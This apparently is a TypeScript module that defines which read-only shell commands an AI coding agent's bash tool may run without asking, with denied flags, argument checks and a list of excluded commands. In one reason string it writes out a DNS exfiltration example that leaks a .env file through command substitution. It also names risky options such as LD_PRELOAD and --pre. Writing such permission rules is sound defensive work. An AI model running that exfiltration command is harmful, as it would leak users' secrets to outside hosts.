/**
 * The read-only commands the bash tool runs without asking: the original's safe read-only
 * list, checked for every part of a command line, not only its first words.
 *
 * Shell analysis (`shell-analysis.ts`) finds every simple command of a command line and sees through
 * wrappers; each one is then looked up here by its name (and subcommand: `git log`) and its arguments.
 * A command line runs without asking only when every simple command passes and nothing is written.
 *
 * Principles: read-only (no file, repository, process or shell-state change) and no network. The
 * original's list with its holes closed ({@link NOT_SAFE}); commands that are read-only only in some
 * forms say which (`git branch` lists, `git branch -D` deletes).
 *
 * How arguments are judged:
 * - an entry with neither `deniedFlags` nor `check` takes any arguments, even unknown ones (`cat "$f"`,
 *   or the ones `xargs` appends);
 * - otherwise every argument must be known (a `$VAR` could expand to `-D`), none may be a denied flag,
 *   and `check` must pass.
 */
import { splitLong } from './getopt.js';
import type { CommandArg, SafeCommand } from './safe-command-types.js';
import { isGitConfigRead, parseGitGlobals, SAFE_GIT_COMMANDS } from './safe-git-commands.js';
import { sedIsReadOnly } from './sed-command.js';

export { isGitConfigRead, parseGitGlobals };

const VERSION_ONLY = (args: readonly string[]) =>
  args.length === 1 && ['--version', '-v', '-V', '-version', 'version'].includes(args[0]!);
/** binutils read more options from `@file`, which may hold `--plugin` */
const NO_RESPONSE_FILE = (args: readonly string[]) => !args.some((a) => a.startsWith('@'));

// prettier-ignore
export const SAFE_READ_ONLY_COMMANDS: readonly SafeCommand[] = [
  // files and text
  { command: 'ls', example: 'ls -la src' },
  { command: 'cat', example: 'cat package.json' },
  { command: 'head', example: 'head -n 20 README.md' },
  { command: 'tail', example: 'tail -n 50 build.log' },
  { command: 'wc', example: 'wc -l src/*.ts' },
  { command: 'sort', example: 'sort -u names.txt (not -o file, -T dir for its temporary files, or --compress-program)', deniedFlags: ['-o', '--output', '--compress-program', '-T', '--temporary-directory'], shortValueFlags: 'kSt' },
  { command: 'uniq', example: 'uniq -c (not a second file, which it writes)', check: (a) => positionals(a, ['-f', '-s', '-w']).length <= 1 },
  { command: 'cut', example: 'cut -d: -f1 /etc/passwd' },
  { command: 'tr', example: "tr 'a-z' 'A-Z'" },
  { command: 'nl', example: 'nl -ba a.ts' },
  { command: 'tac', example: 'tac log' },
  { command: 'rev', example: 'rev names' },
  { command: 'paste', example: 'paste a b' },
  { command: 'comm', example: 'comm -12 a b' },
  { command: 'join', example: 'join a b' },
  { command: 'column', example: 'column -t data' },
  { command: 'fold', example: 'fold -w 80 a' },
  { command: 'od', example: 'od -c a.bin' },
  { command: 'hexdump', example: 'hexdump -C a.bin' },
  { command: 'xxd', example: 'xxd a.bin (not a second file, which it writes)', check: (a) => positionals(a, ['-c', '-g', '-l', '-s', '-o', '-n']).length <= 1 },
  { command: 'strings', example: 'strings a.out (not --plugin, which loads a library)', deniedFlags: ['--plugin'], check: NO_RESPONSE_FILE },
  { command: 'grep', example: 'grep -rn TODO src' },
  { command: 'egrep', example: "egrep 'a|b' f" },
  { command: 'fgrep', example: 'fgrep -x word f' },
  { command: 'rg', example: 'rg -n TODO (not --pre, which runs a program)', deniedFlags: ['--pre', '--hostname-bin'] },
  { command: 'fd', example: 'fd -e ts (not -x/--exec)', deniedFlags: ['-x', '--exec', '-X', '--exec-batch'], shortValueFlags: 'etEdcjSo' },
  { command: 'find', example: 'find . -name "*.ts" (-exec runs its command, judged on its own; not -delete or -fprint)', check: findIsReadOnly },
  { command: 'sed', example: "sed -n '1,50p' f (not -i, or a script with w or e)", check: sedIsReadOnly },
  { command: 'jq', example: 'jq .version package.json' },
  { command: 'diff', example: 'diff -u a b' },
  { command: 'cmp', example: 'cmp a b' },
  { command: 'file', example: 'file logo.png (not -C, which writes magic.mgc)', deniedFlags: ['-C', '--compile'], shortValueFlags: 'emfFP' },
  { command: 'stat', example: 'stat -c %s f' },
  { command: 'du', example: 'du -sh node_modules' },
  { command: 'df', example: 'df -h' },
  { command: 'tree', example: 'tree -L 2 (not -o file)', deniedFlags: ['-o', '-R'], shortValueFlags: 'LPI' },
  { command: 'basename', example: 'basename src/a.ts .ts' },
  { command: 'dirname', example: 'dirname src/a.ts' },
  { command: 'realpath', example: 'realpath ../x' },
  { command: 'readlink', example: 'readlink -f node_modules/.bin/tsc' },
  { command: 'md5sum', example: 'md5sum a' },
  { command: 'sha1sum', example: 'sha1sum a' },
  { command: 'sha256sum', example: 'sha256sum -c SUMS' },
  { command: 'sha512sum', example: 'sha512sum a' },
  { command: 'cksum', example: 'cksum a' },
  { command: 'tee', example: 'tee (copies stdin to stdout; its file arguments are writes)' },
  { command: 'zcat', example: 'zcat log.gz' },
  { command: 'bzcat', example: 'bzcat a.bz2' },
  { command: 'xzcat', example: 'xzcat a.xz' },
  { command: 'zstdcat', example: 'zstdcat a.zst (not -o FILE, which writes it)', deniedFlags: ['-o', '--output-dir-flat', '--output-dir-mirror', '--rm'] },
  { command: 'zgrep', example: 'zgrep error log.gz' },
  { command: 'tar', example: 'tar -tzf a.tgz, tar tvf a.tar (listing only; not -x/-c or options that run a program)', check: tarLists },
  { command: 'unzip', example: 'unzip -l a.zip, unzip -Z1 a.zip (listing only)', check: (a) => /^-[a-zA-Z]*[lvZ]/.test(a[0] ?? '') && !a.includes('-d') },
  { command: 'base64', example: 'base64 -d token.txt (not -o FILE, which writes it on macOS)', deniedFlags: ['-o', '--output'], shortValueFlags: 'bwi' },
  { command: 'base32', example: 'base32 f' },
  { command: 'expand', example: 'expand -t 4 f' },
  { command: 'unexpand', example: 'unexpand -a f' },
  { command: 'fmt', example: 'fmt -w 72 f' },
  { command: 'pr', example: 'pr -2 f' },
  { command: 'numfmt', example: 'numfmt --to=iec 1048576' },
  { command: 'factor', example: 'factor 42' },
  { command: 'tsort', example: 'tsort deps' },
  { command: 'look', example: 'look prefix words' },
  { command: 'b2sum', example: 'b2sum f' },
  { command: 'sha224sum', example: 'sha224sum f' },
  { command: 'sha384sum', example: 'sha384sum f' },
  { command: 'sum', example: 'sum f' },
  { command: 'shuf', example: 'shuf -n 3 f (not -o FILE)', deniedFlags: ['-o', '--output'], shortValueFlags: 'inr' },
  { command: 'iconv', example: 'iconv -f latin1 -t utf8 f, iconv -l (not -o FILE)', deniedFlags: ['-o', '--output'], shortValueFlags: 'ft' },
  { command: 'diff3', example: 'diff3 mine base theirs (not --diff-program, which runs a program)', deniedFlags: ['--diff-program'] },
  { command: 'sdiff', example: 'sdiff a b (not -o FILE or --diff-program)', deniedFlags: ['-o', '--output', '--diff-program'], shortValueFlags: 'wI' },
  { command: 'pathchk', example: 'pathchk -p name' },
  { command: 'dir', example: 'dir -l' },
  { command: 'vdir', example: 'vdir' },
  { command: 'apropos', example: 'apropos socket' },
  // shell builtins and small utilities
  { command: 'echo', example: 'echo $HOME' },
  { command: 'printf', example: "printf '%s\\n' \"$x\" (not -v, which sets a shell variable)", check: (a) => a[0] !== '-v', knownArgs: 1 },
  { command: 'pwd', example: 'pwd' },
  { command: 'cd', example: 'cd src (changes only the directory of the next commands)' },
  { command: 'pushd', example: 'pushd src' },
  { command: 'popd', example: 'popd' },
  { command: 'dirs', example: 'dirs -v' },
  { command: 'true', example: 'true' },
  { command: 'false', example: 'false' },
  { command: ':', example: ': (does nothing)' },
  { command: 'test', example: 'test -f package.json' },
  { command: '[', example: '[ -d node_modules ]' },
  { command: 'type', example: 'type -a python' },
  { command: 'which', example: 'which node' },
  { command: 'whereis', example: 'whereis gcc' },
  { command: 'whatis', example: 'whatis ls' },
  { command: 'command', example: 'command -v git (a lookup; `command git …` is seen through)', check: (a) => a[0] === '-v' || a[0] === '-V' },
  { command: 'sleep', example: 'sleep 2' },
  { command: 'seq', example: 'seq 1 10' },
  { command: 'expr', example: 'expr 1 + 2' },
  // system information
  { command: 'date', example: 'date -u (not -s, which sets the clock)', deniedFlags: ['-s', '--set'], shortValueFlags: 'dfIr' },
  { command: 'cal', example: 'cal 2025' },
  { command: 'uptime', example: 'uptime' },
  { command: 'whoami', example: 'whoami' },
  { command: 'id', example: 'id -u' },
  { command: 'groups', example: 'groups' },
  { command: 'uname', example: 'uname -a' },
  { command: 'hostname', example: 'hostname -f (with a name it renames the host)', check: (a) => a.every((x) => /^-[fsiIdAa]+$|^--(fqdn|short|domain|all-fqdns|ip-address|all-ip-addresses)$/.test(x)) },
  { command: 'nproc', example: 'nproc' },
  { command: 'arch', example: 'arch' },
  { command: 'free', example: 'free -m' },
  { command: 'ps', example: 'ps aux' },
  { command: 'top', example: 'top -b -n 1' },
  { command: 'env', example: 'env (lists the environment; `env X=1 cmd` is seen through to cmd)' },
  { command: 'printenv', example: 'printenv PATH' },
  { command: 'set', example: 'set, set -o (list; other arguments change shell options)', check: (a) => a.length === 0 || (a.length === 1 && (a[0] === '-o' || a[0] === '+o')) },
  // information only: these asked needlessly
  { command: 'ulimit', example: 'ulimit -a, ulimit -n (with a value it sets a limit)', check: (a) => a.every((x) => /^-[HSabcdefiklmnpqrstuvxPRT]+$/.test(x)) },
  { command: 'umask', example: 'umask, umask -S (with a mode it sets it)', check: (a) => a.every((x) => x === '-S' || x === '-p') },
  { command: 'export', example: 'export, export -p (list; with names it exports)', check: (a) => a.length === 0 || (a.length === 1 && a[0] === '-p') },
  { command: 'declare', example: 'declare -p HOME, declare -F, declare -f name (print; without -p/-f/-F names set attributes)', check: declarePrints },
  { command: 'typeset', example: 'typeset -p HOME (as declare)', check: declarePrints },
  { command: 'readonly', example: 'readonly, readonly -p (list)', check: (a) => a.length === 0 || (a.length === 1 && a[0] === '-p') },
  { command: 'shopt', example: 'shopt, shopt -p, shopt extglob (query; not -s/-u)', check: (a) => a.every((x) => !x.startsWith('-') || /^-[pqo]+$/.test(x)) },
  { command: 'hash', example: 'hash, hash -l, hash -t ls (not -p, which makes a name run another program)', check: (a) => a.every((x) => !x.startsWith('-') || /^-[lt]+$/.test(x)) },
  { command: 'jobs', example: 'jobs -l' },
  { command: 'history', example: 'history, history 20 (list; -c/-d change it, -a/-w write a file)', check: (a) => a.length === 0 || (a.length === 1 && /^\d+$/.test(a[0]!)) },
  { command: 'times', example: 'times' },
  { command: 'help', example: 'help cd' },
  { command: 'locale', example: 'locale -a' },
  { command: 'lscpu', example: 'lscpu -e' },
  { command: 'lsmem', example: 'lsmem' },
  { command: 'lsblk', example: 'lsblk -f' },
  { command: 'lsipc', example: 'lsipc' },
  { command: 'lslocks', example: 'lslocks' },
  { command: 'lsmod', example: 'lsmod' },
  { command: 'lspci', example: 'lspci -v' },
  { command: 'lsusb', example: 'lsusb' },
  { command: 'lsof', example: 'lsof -i :3000' },
  { command: 'lsattr', example: 'lsattr f' },
  { command: 'getfacl', example: 'getfacl f' },
  { command: 'namei', example: 'namei -l /usr/bin/node' },
  { command: 'findmnt', example: 'findmnt /' },
  { command: 'mountpoint', example: 'mountpoint /proc' },
  { command: 'getconf', example: 'getconf PAGESIZE' },
  { command: 'lsb_release', example: 'lsb_release -a' },
  { command: 'tty', example: 'tty' },
  { command: 'stty', example: 'stty -a, stty size (with settings it changes the terminal)', check: (a) => a.every((x) => ['-a', '--all', '-g', '--save', 'size', 'speed'].includes(x)) },
  { command: 'vmstat', example: 'vmstat 1 3' },
  { command: 'w', example: 'w' },
  { command: 'who', example: 'who -b' },
  { command: 'users', example: 'users' },
  { command: 'logname', example: 'logname' },
  { command: 'pgrep', example: 'pgrep -fl node' },
  { command: 'pidof', example: 'pidof node' },
  { command: 'pstree', example: 'pstree -p' },
  { command: 'dmesg', example: 'dmesg | tail (not -c/-C/-D/-E/-n, which clear or change the kernel log)', deniedFlags: ['-c', '-C', '-D', '-E', '-n', '--clear', '--read-clear', '--console-off', '--console-on', '--console-level'], shortValueFlags: 'fFlsn' },
  { command: 'sysctl', example: 'sysctl vm.swappiness (not -w, -p or name=value)', check: (a) => a.every((x) => !x.includes('=') && !/^-[a-zA-Z]*[wpf]|^--(write|load|system)/.test(x)) },
  { command: 'netstat', example: 'netstat -tlnp' },
  { command: 'read', example: 'read -r line < f (sets a shell variable; one that makes programs run code is judged as such)' },
  { command: 'mapfile', example: 'mapfile -t lines < f (not -C, which runs a callback)', deniedFlags: ['-C'], shortValueFlags: 'dnOsuc' },
  { command: 'readarray', example: 'readarray -t lines < f (as mapfile)', deniedFlags: ['-C'], shortValueFlags: 'dnOsuc' },
  { command: 'sw_vers', example: 'sw_vers' },
  { command: 'ip', example: 'ip addr, ip -br link, ip route (not add/del/set/flush or netns exec)', check: ipShows },
  { command: 'systemctl', example: 'systemctl status nginx, systemctl list-units (not start/stop/enable/…)', check: (a) => SYSTEMCTL_READS.includes(a.find((x) => !x.startsWith('-')) ?? '') },
  { command: 'journalctl', example: 'journalctl -n 20 -u nginx (not --vacuum-*, --rotate, --flush)', deniedFlags: ['--vacuum-size', '--vacuum-time', '--vacuum-files', '--rotate', '--flush', '--sync', '--relinquish-var', '--smart-relinquish-var', '--setup-keys', '--update-catalog'] },
  { command: 'docker ps', example: 'docker ps -a' },
  { command: 'docker images', example: 'docker images' },
  { command: 'docker version', example: 'docker version' },
  { command: 'docker inspect', example: 'docker inspect web' },
  { command: 'docker logs', example: 'docker logs --tail 20 web' },
  // manuals and object-file readers (less is not here: it keeps a history file and runs $LESSOPEN)
  { command: 'man', example: 'man ls (not -P/-H, which run a program)', deniedFlags: ['-P', '--pager', '-H', '--html', '-B', '--browser'] },
  { command: 'info', example: 'info ls (not -o FILE or --dribble FILE)', deniedFlags: ['-o', '--output', '--dribble'] },
  { command: 'nm', example: 'nm -D lib.so (not --plugin, which loads a library)', deniedFlags: ['--plugin'], check: NO_RESPONSE_FILE },
  { command: 'readelf', example: 'readelf -h a.out (not --plugin, which loads a library)', deniedFlags: ['--plugin'], check: NO_RESPONSE_FILE },
  { command: 'objdump', example: 'objdump -d a.out (not --plugin, which loads a library)', deniedFlags: ['--plugin'], check: NO_RESPONSE_FILE },
  { command: 'yes', example: 'yes | head -3' },
  { command: 'pdfinfo', example: 'pdfinfo a.pdf' },
  { command: 'bc', example: "bc <<< '1+2' (GNU bc has no shell escape)" },
  { command: 'openssl version', example: 'openssl version -a' },
  { command: 'psql', example: 'psql --version', check: VERSION_ONLY },
  { command: 'mysql', example: 'mysql --version', check: VERSION_ONLY },
  { command: 'compgen', example: 'compgen -c (not -C/-F, which run a command or function)', deniedFlags: ['-C', '-F'] },
  { command: 'crontab', example: 'crontab -l (lists; a file or -e installs commands)', check: (a) => a.includes('-l') && a.every((x) => x === '-l' || x === '-u' || !x.startsWith('-')) && !a.includes('-r') },
  { command: 'ssh', example: 'ssh -V', check: VERSION_ONLY },
  { command: 'npx', example: 'npx --version', check: VERSION_ONLY },
  { command: 'ss', example: 'ss -tlnp (not -K, which closes sockets)', deniedFlags: ['-K', '--kill'], shortValueFlags: 'fAF' },
  // git: read-only subcommands, and the listing forms of the ones that also change things (safe-git-commands.ts)
  ...SAFE_GIT_COMMANDS,
  // toolchains: versions and queries
  { command: 'go version', example: 'go version' },
  { command: 'go help', example: 'go help build' },
  { command: 'go env', example: 'go env GOPATH (not -w/-u)', deniedFlags: ['-w', '-u'] },
  { command: 'go list', example: 'go list ./... (not -u, which asks the network)', deniedFlags: ['-u', '-toolexec', '-exec'] },
  { command: 'go doc', example: 'go doc fmt.Println' },
  { command: 'go vet', example: 'go vet ./...', deniedFlags: ['-vettool', '-toolexec', '-exec'] },
  { command: 'npm', example: 'npm --version', check: VERSION_ONLY },
  { command: 'npm ls', example: 'npm ls --depth 0 (not --cache=DIR, --logs-dir=DIR or other options that write)', check: npmReadOptions },
  { command: 'npm list', example: 'npm list react', check: npmReadOptions },
  { command: 'npm ll', example: 'npm ll', check: npmReadOptions },
  { command: 'npm la', example: 'npm la', check: npmReadOptions },
  { command: 'npm root', example: 'npm root -g', check: npmReadOptions },
  { command: 'npm prefix', example: 'npm prefix', check: npmReadOptions },
  { command: 'npm run', example: 'npm run (lists the scripts; with a name it runs one)', check: (a) => npmReadOptions(a) && !a.some((x) => !x.startsWith('-')) },
  { command: 'npm run-script', example: 'npm run-script (lists the scripts)', check: (a) => npmReadOptions(a) && !a.some((x) => !x.startsWith('-')) },
  { command: 'npm config', example: 'npm config get registry, npm config list (not set/delete/edit)', check: (a) => ['get', 'list', 'ls'].includes(a[0] ?? '') && npmReadOptions(a.slice(1)) },
  { command: 'npm help', example: 'npm help install', check: npmReadOptions },
  { command: 'npm explain', example: 'npm explain react', check: npmReadOptions },
  { command: 'npm why', example: 'npm why react', check: npmReadOptions },
  { command: 'npm query', example: "npm query ':root > *'", check: npmReadOptions },
  { command: 'npm pkg', example: 'npm pkg get version (not set/delete/fix)', check: (a) => a[0] === 'get' && npmReadOptions(a.slice(1)) },
  { command: 'node', example: 'node --version', check: VERSION_ONLY },
  { command: 'python', example: 'python --version', check: VERSION_ONLY },
  { command: 'python3', example: 'python3 --version', check: VERSION_ONLY },
  { command: 'pip', example: 'pip --version (pip3, pip3.12 too)', check: VERSION_ONLY },
  { command: 'pip list', example: 'pip list --format=json (not -o/--outdated or -u, which ask the network; not --log FILE)', check: pipReadOptions },
  { command: 'pip show', example: 'pip show -f requests', check: pipReadOptions },
  { command: 'pip freeze', example: 'pip freeze --all', check: pipReadOptions },
  { command: 'gcc', example: 'gcc --version', check: VERSION_ONLY },
  { command: 'tsc', example: 'tsc --version', check: VERSION_ONLY },
  { command: 'xargs', example: 'xargs --version', check: VERSION_ONLY },
  { command: 'make', example: 'make --version', check: VERSION_ONLY },
  { command: 'cmake', example: 'cmake --version', check: VERSION_ONLY },
  { command: 'ruby', example: 'ruby --version', check: VERSION_ONLY },
  { command: 'perl', example: 'perl --version', check: VERSION_ONLY },
  { command: 'cargo', example: 'cargo --version', check: VERSION_ONLY },
  { command: 'rustc', example: 'rustc --version', check: VERSION_ONLY },
  { command: 'deno', example: 'deno --version', check: VERSION_ONLY },
  { command: 'bun', example: 'bun --version', check: VERSION_ONLY },
  { command: 'java', example: 'java -version', check: VERSION_ONLY },
];

/** Commands left out on purpose, and why (several were "safe" in the original). */
// prettier-ignore
export const NOT_SAFE: readonly { command: string; reason: string }[] = [
  { command: 'kill', reason: 'stops processes (safe in the original)' },
  { command: 'killall', reason: 'stops processes (safe in the original)' },
  { command: 'nice, nohup, time, timeout, env, stdbuf, command, exec, xargs', reason: 'run another command: judged as that command' },
  { command: 'sudo, doas, su, pkexec, run0', reason: 'run another command as another user: always ask, whatever the rules allow (they cannot gain another user in the sandbox)' },
  { command: 'go run, go test, go build, go install, go generate, go clean, go get, go mod, go fmt', reason: 'run project code, download, delete or rewrite files (several safe in the original)' },
  { command: 'git ls-remote, git fetch, git remote show (without -n)', reason: 'use the network' },
  { command: 'npm view, npm outdated', reason: 'use the network' },
  { command: 'less, more', reason: 'pagers: interactive, and can run commands' },
  { command: 'ping, dig, host, nslookup, getent, traceroute, whois', reason: 'reach the network: a name looked up carries what a `$( )` put in it out through DNS (`ping $(cat .env).example.com`)' },
  { command: 'awk', reason: 'can run commands (system()) and write files (print > f)' },
  { command: 'unset, export', reason: 'change the environment of later commands in the persistent shell (unset was safe in the original)' },
];

/**
 * Environment assignments that don't change what a read-only command does (`LANG=C sort f`,
 * `GIT_PAGER=cat git log`). Any other (`GIT_EXTERNAL_DIFF=…`, `LD_PRELOAD=…`, `PATH=…`) makes it ask.
 */
// prettier-ignore
const SAFE_ENV_NAMES = new Set(['LANG', 'LANGUAGE', 'TZ', 'NO_COLOR', 'FORCE_COLOR', 'CLICOLOR', 'CLICOLOR_FORCE', 'TERM', 'COLUMNS', 'LINES', 'CI']);
const PAGER_NAMES = new Set(['PAGER', 'GIT_PAGER']);

/** Whether an environment assignment `NAME=value` leaves a read-only command read-only. */
export function isSafeEnvAssignment(name: string, value: string): boolean {
  if (SAFE_ENV_NAMES.has(name) || /^LC_[A-Z]+$/.test(name)) return true;
  return PAGER_NAMES.has(name) && (value === '' || value === 'cat');
}

const entries = new Map(SAFE_READ_ONLY_COMMANDS.map((e) => [e.command, e]));

/**
 * Whether the simple command `name args…` is read-only by {@link SAFE_READ_ONLY_COMMANDS}.
 * `extraArgsUnknown`: more arguments will be appended that we cannot see (`xargs cmd`).
 */
export function isReadOnlyCommand(
  name: string,
  args: readonly CommandArg[],
  options: { extraArgsUnknown?: boolean } = {},
): boolean {
  const found = findEntry(name, args);
  if (!found) return false;
  const { entry, rest } = found;
  const open = !entry.deniedFlags && !entry.check;
  if (open) return true;
  if (
    options.extraArgsUnknown ||
    !rest.slice(0, entry.knownArgs ?? rest.length).every((a) => a.literal || globCannotBeOption(a.value))
  )
    return false;
  const values = rest.map((a) => a.value);
  if (entry.deniedFlags && hasFlag(values, entry.deniedFlags, entry.shortValueFlags)) return false;
  return entry.check ? entry.check(values) : true;
}

/**
 * A glob that starts with a plain character (`dist/*`, `src/**\/*.ts`) expands only to names that
 * start the same way, never to an option; one with an expansion (`x$Y`, which word splitting may turn
 * into `x -o /tmp/f`) or that starts with a glob character (`*.ts` may match `-C.ts`) may.
 */
function globCannotBeOption(value: string): boolean {
  return !/[$`]/.test(value) && /^[^-*?[{~\\]/.test(value);
}

function findEntry(
  commandName: string,
  args: readonly CommandArg[],
): { entry: SafeCommand; rest: readonly CommandArg[] } | undefined {
  // `'git status'` is one word: bash runs a program of that name, not git; a control character is part of the name
  if (/[\s\x00-\x1f\x7f]/.test(commandName)) return undefined;
  const name = /^pip[\d.]*$/.test(commandName) ? 'pip' : commandName; // pip3, pip3.12
  if (name === 'git') {
    const git = parseGitGlobals(args);
    if (!git.readOnly) return undefined;
    if (git.subcommand === undefined) return withEntry('git', args);
    return withEntry(`git ${git.subcommand}`, args.slice(git.subcommandIndex + 1));
  }
  const first = args[0];
  if (first?.literal) {
    const sub = withEntry(`${name} ${first.value}`, args.slice(1));
    if (sub) return sub;
  }
  return withEntry(name, args);
}

function withEntry(key: string, rest: readonly CommandArg[]) {
  const entry = entries.get(key);
  return entry ? { entry, rest } : undefined;
}

// ---- ip, systemctl

// prettier-ignore
const IP_OBJECTS = ['addr', 'address', 'a', 'route', 'r', 'ro', 'link', 'l', 'neigh', 'n', 'rule', 'ru', 'maddr', 'm', 'tuntap', 'netconf'];
// prettier-ignore
const IP_WRITES = ['add', 'del', 'delete', 'set', 'change', 'replace', 'flush', 'append', 'prepend', 'exec', 'save', 'restore', 'monitor', 'up', 'down'];

/** `ip addr`, `ip -br -c link show`: an object that only lists, and no verb that changes it. */
function ipShows(args: readonly string[]): boolean {
  const words = args.filter((a) => !a.startsWith('-'));
  return words.length > 0 && IP_OBJECTS.includes(words[0]!) && !words.some((w) => IP_WRITES.includes(w));
}

// prettier-ignore
const SYSTEMCTL_READS = ['status', 'show', 'cat', 'list-units', 'list-unit-files', 'list-timers', 'list-sockets', 'list-dependencies', 'list-jobs', 'is-active', 'is-enabled', 'is-failed', 'is-system-running', 'get-default'];

// ---- npm, pip, declare, tar

/**
 * npm options that only shape what a listing shows. Any other option asks: npm takes every config key
 * as an option (`--cache=DIR`, `--logs-dir=DIR`, `--userconfig=FILE` make it write elsewhere) and
 * expands abbreviations, so only these exact names are known to be harmless.
 */
const NPM_READ_FLAGS =
  /^(-[aglpsqd]+|--(json|long|parseable|all|global|depth(=\d+)?|prod|production|dev|development|omit(=[a-z]+)?|include(=[a-z]+)?|link|unicode|no-unicode|color(=[a-z]+)?|no-color|loglevel(=[a-z]+)?|silent|quiet|workspaces|ws|include-workspace-root|package-lock-only|location=(user|project|global)|workspace(=[^=]+)?|expect-results|installed|if-present))$/;

function npmReadOptions(args: readonly string[]): boolean {
  return args.every((a) => !a.startsWith('-') || a === '--' || NPM_READ_FLAGS.test(a) || /^-w$/.test(a));
}

/** pip options that only shape a listing (pip's optparse expands abbreviations: others, such as `--lo` for `--log FILE`, ask). */
const PIP_READ_FLAGS =
  /^(-[velqrf]+|--(format(=[a-z]+)?|not-required|editable|local|user|path(=.*)?|exclude(=.*)?|exclude-editable|include-editable|verbose|quiet|no-color|disable-pip-version-check|files|all|requirement(=.*)?|no-index|isolated|no-input))$/;

function pipReadOptions(args: readonly string[]): boolean {
  return args.every((a) => !a.startsWith('-') || PIP_READ_FLAGS.test(a));
}

/** `declare`/`typeset` print with -p, -f or -F, or with no names; with names and no printing option they set attributes. */
function declarePrints(args: readonly string[]): boolean {
  const options = args.filter((a) => a.startsWith('-') || a.startsWith('+'));
  const names = args.filter((a) => !a.startsWith('-') && !a.startsWith('+'));
  if (names.some((n) => n.includes('='))) return false;
  if (options.some((o) => o.startsWith('+') || !/^-[aAfFgilnprtux]+$/.test(o))) return false;
  return names.length === 0 || options.some((o) => /[pfF]/.test(o));
}

const TAR_CODE_OPTIONS =
  /^(-[A-Za-z]*[IF]|--(use-compress-program|to-command|info-script|new-volume-script|rsh-command|checkpoint-action|index-file|volno-file|rmt-command|listed-incremental|file=-?$))/;

/** `tar t…`: lists an archive; any mode that writes, or an option that runs a program, asks. */
function tarLists(args: readonly string[]): boolean {
  const first = args[0] ?? '';
  const oldStyle = /^[a-zA-Z]+$/.test(first);
  if (oldStyle && /[IF]/.test(first)) return false; // tar tIf PROG a.tar runs PROG
  const modes = oldStyle
    ? first
    : args
        .filter((a) => /^-[a-zA-Z]+$/.test(a))
        .map((a) => a.slice(1))
        .join('');
  const longList = args.includes('--list');
  if (!/t/.test(modes) && !longList) return false;
  if (/[xcruAdg]/.test(modes.replace(/f.*$/, ''))) return false;
  // `-f host:a.tar` is an archive on another machine, reached through rsh or ssh (unless --force-local)
  const remote = !args.includes('--force-local') && args.some((a) => /^[^/-][^/]*:/.test(a));
  return (
    !remote &&
    !args.some(
      (a) => TAR_CODE_OPTIONS.test(a) || /^--(extract|get|create|append|update|delete|catenate|concatenate)/.test(a),
    )
  );
}

// ---- find and sed

/** find's own actions that write (its -exec commands are found and judged separately). */
export const FIND_WRITING_ACTIONS = ['-delete', '-fprint', '-fprint0', '-fprintf', '-fls'];
const FIND_EXEC_ACTIONS = ['-exec', '-execdir', '-ok', '-okdir'];

function findIsReadOnly(args: readonly string[]): boolean {
  return !args.some((a) => FIND_WRITING_ACTIONS.includes(a) || FIND_EXEC_ACTIONS.includes(a));
}

// sed's arguments and scripts: sed-command.ts
export { isPrintOnlySedScript, parseSed, type SedInvocation } from './sed-command.js';

// ---- flags

// splitLong lives in getopt.ts, with the rest of option reading
export { splitLong } from './getopt.js';

/** Whether any argument (before `--`) is one of `flags` (see {@link SafeCommand.deniedFlags} for the forms). */
export function hasFlag(args: readonly string[], flags: readonly string[], shortValueFlags = ''): boolean {
  for (const arg of args) {
    if (arg === '--') return false;
    if (!arg.startsWith('-') || arg === '-') continue;
    const [name] = splitLong(arg);
    for (const flag of flags) {
      if (flag.startsWith('--')) {
        // GNU getopt accepts any unambiguous abbreviation: --out=f is --output=f
        if (name.startsWith('--') && name.length > 2 && flag.startsWith(name)) return true;
      } else if (flag.length === 2) {
        if (arg.startsWith('--') ? name === `-${flag}` : clusterHas(arg, flag[1]!, shortValueFlags)) return true; // Go takes --w for -w
      } else if (name === flag || name === `-${flag}`) return true;
    }
  }
  return false;
}

/** Whether the short-option cluster `-abc` holds `letter` before any option that takes the rest as its value. */
function clusterHas(cluster: string, letter: string, shortValueFlags: string): boolean {
  for (const char of cluster.slice(1)) {
    if (char === letter) return true;
    if (shortValueFlags.includes(char)) return false;
  }
  return false;
}

/** The positional arguments, skipping the values of `valueFlags` given as separate words. */
function positionals(args: readonly string[], valueFlags: readonly string[]): string[] {
  const result: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const arg = args[i]!;
    if (arg === '--') return [...result, ...args.slice(i + 1)];
    if (valueFlags.includes(arg)) i++;
    else if (!arg.startsWith('-') || arg === '-') result.push(arg);
  }
  return result;
}
